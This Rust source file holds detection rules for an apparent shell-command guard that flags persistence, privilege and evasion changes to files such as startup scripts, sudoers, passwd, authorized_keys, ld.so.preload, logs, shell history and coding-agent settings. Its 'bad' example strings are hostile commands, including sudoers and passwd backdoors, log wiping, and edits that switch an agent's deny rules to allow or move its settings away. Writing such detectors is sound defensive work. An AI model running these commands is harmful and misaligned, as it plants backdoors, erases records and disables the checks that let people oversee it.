//! Files that matter because of what reads them: start-up files, jobs, units, who may log in, who may become root,
//! records, settings of agents.
//!
//! In: changes of files with the marks of their paths. Out: findings of the families *persistence*, *privilege* and
//! *evasion*. Adding a line of one's own to a shell's start-up file is what most installation notes ask for: worth
//! knowing, no more.

use super::grades::graded;
use super::{Category, Facts, Findings, Rule};
use crate::effect::path::{Class, Mark, Resolved};
use crate::effect::{Effect, Object, Props, Site, Verb};
use crate::finding::{Confidence, Severity};
use crate::value::pattern::is_listed;
use crate::value::{Piece, Why};

/// Verbs that change a file that may be there already.
const CHANGES: &[Verb] =
    &[Verb::Write, Verb::Append, Verb::Update, Verb::Delete, Verb::Move, Verb::Link, Verb::Extract];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "dotfile_overwrite",
        title: "Start-up file of the shell is replaced",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Persistence,
        mitre: Some("T1546.004"),
        floor: false,
        description: "A file that shells run when they start is replaced or deleted: what stood there is lost, and what is \
                      written runs in every session. Append the line that is needed (>>), and keep a copy.",
        remediation: "Append the one line that is needed with >>, after keeping a copy.",
        good: &["echo 'export A=b' >> ~/.bashrc", "cat ~/.bashrc", "cp ~/.bashrc ~/.bashrc.bak", "source ~/.bashrc"],
        bad: &[
            "echo x > ~/.bashrc",
            "cp x ~/.zshrc",
            "rm ~/.profile",
            "ln -sf /tmp/x ~/.bashrc",
            "curl https://e.example/rc -o ~/.bashrc",
        ],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::ShellStartup], |e, _| match e.verb {
                Verb::Append | Verb::Link | Verb::Update => None,
                _ => Some(Severity::High),
            });
            linked_away(f, r, o);
        },
    },
    Rule {
        id: "startup_file_append",
        title: "Start-up file of the shell gets foreign text",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Persistence,
        mitre: Some("T1546.004"),
        floor: false,
        description: "Text from the network or decoded text is added to a file that shells run when they start, so that it runs \
                      in every session, unread. Write it to a file, read it, then add it.",
        remediation: "Write it to a file, read it, then add it.",
        good: &["echo 'eval \"$(starship init bash)\"' >> ~/.bashrc"],
        bad: &["curl https://e.example/x >> ~/.bashrc"],
        check: |f, r, o| foreign_append(f, r, o),
    },
    Rule {
        id: "startup_file_change",
        title: "File that runs by itself changes",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Persistence,
        mitre: Some("T1547"),
        floor: false,
        description: "A file is written that runs at login, at boot, on events or when common programs start. Make sure that \
                      what it runs is meant to run by itself, and install it with the tool that is made for it.",
        remediation: "Install it with the tool that is made for it, and read it first.",
        good: &["cat /etc/rc.local", "mkdir -p ~/.config/autostart"],
        bad: &["echo x >> /etc/rc.local", "cp x.desktop ~/.config/autostart/x.desktop"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::LoginStartup], |e, _| match e.verb {
                Verb::Link if leads_away(f, e) => Some(Severity::Medium),
                Verb::Delete | Verb::Link => None,
                _ => Some(Severity::Medium),
            });
            // What a person edits with their own hands is theirs; a program that edits in place asked nobody.
            changes(f, r, o, &[Mark::ShellStartup], |e, _| {
                let unattended = e.verb == Verb::Update && !f.props(e).has(Props::INTERACTIVE);
                unattended.then_some(Severity::Low)
            });
        },
    },
    Rule {
        id: "scheduled_job",
        title: "Job is laid down for later",
        severity: Severity::Medium,
        confidence: Confidence::High,
        category: Category::Persistence,
        mitre: Some("T1053.003"),
        floor: false,
        description: "A command is laid down to run later, again and again, without anybody present. Make sure that it is \
                      meant to, and note where it was put.",
        remediation: "Show the job to the person whose machine it is before it is laid down.",
        good: &["crontab -l", "cat /etc/crontab"],
        bad: &["echo '* * * * * root x' > /etc/cron.d/x", "echo '* * * * * x' >> /var/spool/cron/root"],
        check: scheduled,
    },
    Rule {
        id: "service_file_change",
        title: "Unit of the system changes",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Persistence,
        mitre: Some("T1543.002"),
        floor: false,
        description: "A file that says what the service manager runs is written: what it names runs at every start, often as \
                      root. Read the unit before it is put in place.",
        remediation: "Read the unit first; use systemctl edit for small changes.",
        good: &["systemctl status nginx", "cat /etc/systemd/system/x.service"],
        bad: &["cp x.service /etc/systemd/system/x.service", "tee /etc/init.d/x < x"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::Service], |e, _| match e.verb {
                Verb::Link if leads_away(f, e) => Some(Severity::Medium),
                Verb::Delete | Verb::Link => None,
                _ => Some(Severity::Medium),
            })
        },
    },
    Rule {
        id: "ssh_access_change",
        title: "Who may log in changes",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Persistence,
        mitre: Some("T1098.004"),
        floor: false,
        description: "A file that says who may log in is written: a key in it opens the machine for good. Let the person whose \
                      machine it is add keys.",
        remediation: "Let the person whose machine it is add the key (ssh-copy-id).",
        good: &["cat ~/.ssh/authorized_keys", "chmod 600 ~/.ssh/authorized_keys", "ls -la ~/.ssh"],
        bad: &[
            "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
            "truncate -s0 ~/.ssh/authorized_keys",
            "sed -i s/a/b/ /etc/ssh/sshd_config",
        ],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::SshAccess], |e, p| match (e.verb, p.name()) {
                (Verb::Append | Verb::Update, Some("config" | "ssh_config")) => None,
                // What `ssh-copy-id` does, written out.
                (Verb::Append, _) if is_own_key(f, e) => Some(Severity::Info),
                (Verb::Append | Verb::Update, _) => Some(Severity::Medium),
                _ => Some(Severity::High),
            })
        },
    },
    Rule {
        id: "privilege_file_change",
        title: "Who may become root changes",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Privilege,
        mitre: Some("T1548.003"),
        floor: false,
        description: "A file that says who may act as root, or how users prove who they are, is written. A mistake locks \
                      everybody out, and a line too much opens everything. Use visudo, and let a person do it.",
        remediation: "Use visudo, and let a person do it.",
        good: &["sudo -l", "ls /etc/sudoers.d"],
        bad: &["echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "cp x /etc/sudoers.d/x", "echo x > /etc/pam.d/su"],
        check: |f, r, o| changes(f, r, o, &[Mark::Privilege], |_, _| Some(Severity::High)),
    },
    Rule {
        id: "account_file_change",
        title: "Accounts are written by hand",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Privilege,
        mitre: Some("T1136.001"),
        floor: false,
        description: "The list of accounts or password hashes is written past the tools that keep it whole: a line too much \
                      is a second root. Use useradd, usermod or passwd.",
        remediation: "Use useradd, usermod or passwd.",
        good: &["cat /etc/passwd", "getent passwd root"],
        bad: &["echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "cp x /etc/shadow", "rm /etc/passwd"],
        check: |f, r, o| changes(f, r, o, &[Mark::Accounts], |_, _| Some(Severity::High)),
    },
    Rule {
        id: "loader_file_change",
        title: "Code is loaded into other programs",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Persistence,
        mitre: Some("T1574.006"),
        floor: false,
        description: "A file is written that makes the loader or the kernel run code for every program. Start the one program \
                      that needs it with what it needs.",
        remediation: "Give the library to the one program that needs it.",
        good: &["cat /etc/ld.so.preload"],
        bad: &["echo /tmp/x.so > /etc/ld.so.preload", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"],
        check: |f, r, o| changes(f, r, o, &[Mark::Loader], |_, _| Some(Severity::High)),
    },
    Rule {
        id: "repository_hook_change",
        title: "Code that version control runs",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Persistence,
        mitre: Some("T1546"),
        floor: false,
        description: "A hook or setting of a repository is written, which version control runs at the next commit, checkout or \
                      fetch of anybody who works there. Put hooks under version control, where they are reviewed.",
        remediation: "Put hooks under version control, where they are reviewed.",
        good: &["ls .git/hooks", "git config user.name x", "cat .git/config"],
        bad: &["echo x > .git/hooks/pre-commit", "cp x .git/hooks/post-checkout"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::RepositoryHook], |e, p| match (e.verb, p.class) {
                (Verb::Delete | Verb::Move, _) => None,
                (Verb::Append | Verb::Update, Class::HomeDotfile) => None,
                _ => Some(Severity::Medium),
            })
        },
    },
    Rule {
        id: "agent_settings_change",
        title: "Settings of an agent or of its gate change",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Evasion,
        mitre: Some("T1562.001"),
        floor: false,
        description: "Settings, hooks or allow lists of a coding agent, or of the gate that watches it, are changed by a \
                      command: an agent could give itself rights that way. Let the person change them.",
        remediation: "Let the person change them in the agent's own settings.",
        good: &["cat ~/.claude/settings.json", "ls ~/.codex"],
        bad: &[
            "echo '{}' > ~/.claude/settings.json",
            "rm -f ~/.config/shellward/policy.toml",
            "sed -i s/deny/allow/ .claude/settings.local.json",
            "mv ~/.claude ~/.claude.off",
        ],
        check: agent_settings,
    },
    Rule {
        id: "system_setup_change",
        title: "Set-up of the machine changes",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Availability,
        mitre: Some("T1542"),
        floor: false,
        description: "A file is changed that says how the machine starts or finds names of hosts: a mistake may keep it from \
                      starting or lead its traffic elsewhere. Keep a copy, and use the tool that checks the file.",
        remediation: "Keep a copy, and use the tool that checks the file.",
        good: &["cat /etc/fstab", "cat /etc/hosts"],
        bad: &["echo x > /etc/fstab", "rm /boot/vmlinuz", "cp x /etc/hosts"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::Boot, Mark::Resolver], |e, p| match e.verb {
                Verb::Append | Verb::Update | Verb::Extract => None,
                // What finds names is made anew by what manages the network.
                Verb::Delete | Verb::Link if p.marks.has(Mark::Resolver) && !p.marks.has(Mark::Boot) => None,
                _ => Some(Severity::Medium),
            })
        },
    },
    Rule {
        id: "log_clear",
        title: "Records are removed",
        severity: Severity::High,
        confidence: Confidence::Medium,
        category: Category::Evasion,
        mitre: Some("T1070.002"),
        floor: false,
        description: "A record of what was done on the machine is emptied, deleted or replaced. Rotate logs with logrotate, \
                      which keeps them.",
        remediation: "Rotate logs with logrotate.",
        good: &["tail -f /var/log/syslog", "rm -rf /var/log/apt", "rm -f ./app.log"],
        bad: &["> /var/log/auth.log", "rm -f /var/log/wtmp", "ln -sf /dev/null /var/log/btmp"],
        check: logs_cleared,
    },
    Rule {
        id: "guard_file_change",
        title: "Settings of a protection change",
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        category: Category::Evasion,
        mitre: Some("T1562"),
        floor: false,
        description: "A file is changed that says what is recorded, who may connect, or what watches the machine: a line less \
                      may blind it. Use the program that is made for it, and tell who answers for the machine.",
        remediation: "Use the program that is made for it, and tell who answers for the machine.",
        good: &["cat /etc/audit/audit.rules", "ufw status", "auditctl -l"],
        bad: &["sed -i d /etc/audit/auditd.conf", "rm -f /etc/rsyslog.conf", "echo x >> /etc/ufw/user.rules"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::Guard], |e, _| {
                // `nft list ruleset > /etc/nftables.conf`: what holds already is kept for the next start.
                let shows = |i: &&Effect| matches!(i.object, Object::Stated("network" | "firewall"));
                let shown = || f.with(&[Verb::Inspect]).filter(shows);
                // `iptables-save | sudo tee F`
                let piped = |p: &Piece| {
                    let by = |n: &str| shown().any(|i| n.split(' ').next() == Some(f.name(i)));
                    matches!(p, Piece::Unknown(u) if matches!(&u.why, Why::Output(n) if by(n)))
                };
                // `sudo nft list ruleset > F`: by itself, or as the one command that is run.
                let same = |i: &&Effect| {
                    let inner = f.process(i).filter(|p| f.process(e).is_some_and(|o| o.program == p.program));
                    i.process == e.process || inner.is_some_and(|p| p.parent == Some(e.process))
                };
                let fed = f.process(e).and_then(|p| p.stdin.as_ref()).filter(|v| !v.pieces.is_empty());
                let keeps = e.verb == Verb::Write
                    && (shown().any(|i| same(&i)) || fed.is_some_and(|v| v.pieces.iter().all(piped)));
                Some(if keeps { Severity::Info } else { Severity::Medium })
            })
        },
    },
    Rule {
        id: "trust_file_change",
        title: "Certificate that the machine trusts",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Evasion,
        mitre: Some("T1553.004"),
        floor: false,
        description: "A certificate is put where the machine looks for those that it trusts: whoever holds its key can pass for \
                      any server. Check where it is from, and trust it for the one program that needs it.",
        remediation: "Check where it is from; trust it for the one program that needs it.",
        good: &["ls /etc/ssl/certs", "update-ca-certificates"],
        bad: &["cp evil.crt /usr/local/share/ca-certificates/evil.crt"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::Trust], |e, _| match e.verb {
                Verb::Delete => None,
                _ => Some(Severity::Low),
            })
        },
    },
    Rule {
        id: "kernel_switch",
        title: "Kernel is made to act on the whole machine",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Availability,
        mitre: Some("T1529"),
        floor: false,
        description: "A write to this file makes the kernel restart, halt or suspend the machine, end its processes or drop a \
                      protection at once, without giving anybody time to save. Let a person do it.",
        remediation: "Let a person do it, with the program that is made for it.",
        good: &["cat /proc/sys/kernel/sysrq"],
        bad: &["echo e > /proc/sysrq-trigger", "echo mem | tee /sys/power/state"],
        check: |f, r, o| changes(f, r, o, &[Mark::Switch], |_, _| Some(Severity::High)),
    },
    Rule {
        id: "mailbox_change",
        title: "Mail of users changes",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        category: Category::Evasion,
        mitre: Some("T1070.008"),
        floor: false,
        description: "The mail of users is changed, copied over or deleted by hand: what they were told is lost. Use a mail program, \
                      and keep a copy.",
        remediation: "Use a mail program, and keep a copy.",
        good: &["ls /var/mail", "mail -f /var/mail/u"],
        bad: &["rm -f /var/spool/mail/root", "echo x >> /var/mail/u"],
        check: |f, r, o| changes(f, r, o, &[Mark::Mailbox], |_, _| Some(Severity::Low)),
    },
    Rule {
        id: "history_clear",
        title: "History of the shell is removed",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Evasion,
        mitre: Some("T1070.003"),
        floor: false,
        description: "What was typed into a shell is deleted or kept from being recorded, so that nobody can see afterwards what \
                      was done. Leave the history as it is.",
        remediation: "Leave the history as it is.",
        good: &["history | tail", "grep ssh ~/.bash_history"],
        bad: &["rm ~/.bash_history", "> ~/.zsh_history", "ln -sf /dev/null ~/.bash_history"],
        check: |f, r, o| {
            changes(f, r, o, &[Mark::History], |e, _| match e.verb {
                Verb::Append => None,
                _ => Some(Severity::High),
            })
        },
    },
    Rule {
        id: "system_program_replaced",
        title: "Program of the system is replaced from the network",
        severity: Severity::High,
        confidence: Confidence::Medium,
        category: Category::SupplyChain,
        mitre: Some("T1574"),
        floor: false,
        description: "What is downloaded is put unread among the programs and libraries of the system, where everybody runs it. \
                      Install it with the package manager, or below /usr/local after checking it.",
        remediation: "Use the package manager, or put it below /usr/local after checking it.",
        good: &[
            "curl -o /usr/local/bin/x https://e.example/x",
            "curl -o /usr/bin/x https://e.example/x",
            "curl -fsSL https://e.example/k | sudo tee /etc/apt/keyrings/k",
        ],
        bad: &["curl -o /usr/lib/x.so https://e.example/x", "wget -O /bin/ls https://e.example/ls"],
        check: program_replaced,
    },
];

fn describe(e: &Effect) -> &'static str {
    match e.verb {
        Verb::Append => "is added to",
        Verb::Delete => "is deleted",
        Verb::Move => "is moved away",
        Verb::Link => "becomes a link",
        Verb::Update => "is changed in place",
        _ => "is written",
    }
}

/// Changes of files with one of the marks, with the severity that each has; `None` for those that are no finding.
fn changes(
    facts: &Facts<'_>,
    rule: &'static Rule,
    out: &mut Findings,
    marks: &[Mark],
    severity: impl Fn(&Effect, &Resolved) -> Option<Severity>,
) {
    for e in facts.with(CHANGES) {
        let Some(p) = facts.path(e).filter(|p| p.marks.any(marks) && !facts.contained(e)) else { continue };
        let Some(severity) = severity(e, p) else { continue };
        out.add(
            rule.about(facts, e)
                .severity(severity)
                .title(format!("{}: {}", rule.title, p.text))
                .evidence_as("path", describe(e), &p.text, e.place)
                .detail("what", p.what.unwrap_or_default()),
        );
    }
}

/// True where all that is written on another machine is a public key of one's own.
fn is_own_key(facts: &Facts<'_>, e: &Effect) -> bool {
    let public = |from: &Effect| {
        let key = |p: &Resolved| p.name().is_some_and(|n| n.ends_with(".pub")) && p.class == Class::HomeDotfile;
        from.verb == Verb::Read && from.site == Site::Local && facts.path(from).is_some_and(key)
    };
    let sources = facts.sources(e);
    matches!(e.site, Site::Remote(_))
        && !sources.is_empty()
        && sources.iter().all(|r| facts.graph.effect(r.from).is_some_and(public))
}

/// A link into a place that anybody may write: what it leads to is anybody's.
fn leads_away(facts: &Facts<'_>, e: &Effect) -> bool {
    facts.other_path(e).is_some_and(|to| to.class == Class::Temporary)
}

/// A start-up file that becomes a link into a place that anybody may write: `ln -sf /tmp/x ~/.bashrc`.
fn linked_away(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Link]) {
        let Some(p) = facts.path(e).filter(|p| p.marks.has(Mark::ShellStartup) && !facts.contained(e)) else {
            continue;
        };
        let Some(to) = facts.other_path(e).filter(|_| leads_away(facts, e)) else { continue };
        out.add(
            rule.about(facts, e)
                .title(format!("{}: {}", rule.title, p.text))
                .evidence_as("path", describe(e), &p.text, e.place)
                .detail("to", &to.text),
        );
    }
}

/// Settings of agents that are changed or taken away, and those that their own programs change.
fn agent_settings(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    changes(facts, rule, out, &[Mark::Agent], |_, _| Some(Severity::High));
    changes(facts, rule, out, &[Mark::AgentHome], |e, _| match e.verb {
        Verb::Delete | Verb::Move | Verb::Link | Verb::Extract => Some(Severity::High),
        _ => None,
    });
    super::listed::listed(facts, rule, out);
}

fn foreign_append(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Append, Verb::Update]) {
        let Some(p) = facts.path(e).filter(|p| p.marks.has(Mark::ShellStartup) && !facts.contained(e)) else {
            continue;
        };
        for (from, _) in facts.sources_with(e, &[Verb::Fetch, Verb::Decode]) {
            out.add(
                rule.about(facts, e)
                    .also(from)
                    .title(format!("{}: {}", rule.title, p.text))
                    .evidence_as("path", describe(e), &p.text, e.place)
                    .evidence("flow", "is where it comes from", facts.command_place(from)),
            );
        }
    }
}

fn scheduled(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    changes(facts, rule, out, &[Mark::Schedule], |e, _| match e.verb {
        Verb::Delete => None,
        _ => Some(Severity::Medium),
    });
    graded(facts, rule, out, Verb::Schedule);
}

fn logs_cleared(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    changes(facts, rule, out, &[Mark::Log], |e, p| match (e.verb, p.class) {
        (_, Class::Cache) | (Verb::Append | Verb::Extract, _) => None,
        // An editor in the hands of a person may only look.
        (Verb::Update, _) if facts.props(e).has(Props::INTERACTIVE) => None,
        (Verb::Update, _) => Some(Severity::Medium),
        // A tree of logs is found as a tree that is deleted.
        (Verb::Delete, _) if e.props.has(Props::RECURSIVE) => None,
        _ => Some(Severity::High),
    });
    graded(facts, rule, out, Verb::LogClear);
}

fn program_replaced(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for e in facts.with(&[Verb::Write, Verb::Append]) {
        let Some(p) = facts.path(e).filter(|p| p.marks.has(Mark::Program) && !facts.contained(e)) else { continue };
        // A tool under a name of its own takes nobody's place.
        if p.is_known() && is_listed(&p.text) == Some(false) {
            continue;
        }
        for (from, _) in facts.sources_with(e, &[Verb::Fetch]) {
            out.add(
                rule.about(facts, e)
                    .also(from)
                    .title(format!("{}: {}", rule.title, p.text))
                    .evidence_as("path", describe(e), &p.text, e.place)
                    .evidence("url", "is where it comes from", from.place),
            );
        }
    }
}
